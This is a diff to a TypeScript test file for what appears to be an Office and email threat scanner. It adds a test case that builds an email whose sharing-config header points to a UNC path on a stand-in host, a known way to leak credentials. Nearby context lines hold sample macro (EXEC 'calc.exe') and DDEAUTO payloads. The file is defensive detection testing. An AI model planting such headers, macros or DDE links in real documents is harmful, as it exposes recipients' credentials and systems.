@@ -28,6 +28,10 @@ import {
   word
 } from "./OfficeParts.ts"
 
+/** Returns an invitation to a calendar, whose address Outlook opens. */
+const sharing = (address: string): Uint8Array =>
+  Buffer.from(`From: a@example.com\r\nTo: b@example.com\r\nX-Sharing-Config-Url: ${address}\r\n\r\nHi`)
+
 export const officeCases: ReadonlyArray<ReasonCase> = [
   of("MACRO_PRESENT", 8, macros("Option Explicit\n"), nothing),
   of("MACRO_PRESENT", 18, macros(calm), macros("' Sub A()\n")),
@@ -40,6 +44,7 @@ export const officeCases: ReadonlyArray<ReasonCase> = [
   of("XLM_MACRO", 45, macroSheet(1, ["RETURN()"]), macroSheet(0, ["RETURN()"])),
   of("XLM_MACRO", 70, macroSheet(0, ["EXEC(&quot;calc.exe&quot;)"]), macroSheet(0, ["ALERT(&quot;EXEC&quot;)"])),
   of("DDE_LINK", 35, instruction("DDEAUTO Excel Book1.xls Sheet1"), instruction("DATE dde")),
+  of("CREDENTIAL_LEAK_PATH", 20, sharing("\\\\a.example\\b.ics"), sharing("\\\\server\\b.ics")),
   of(
     "DDE_LINK",
     75,
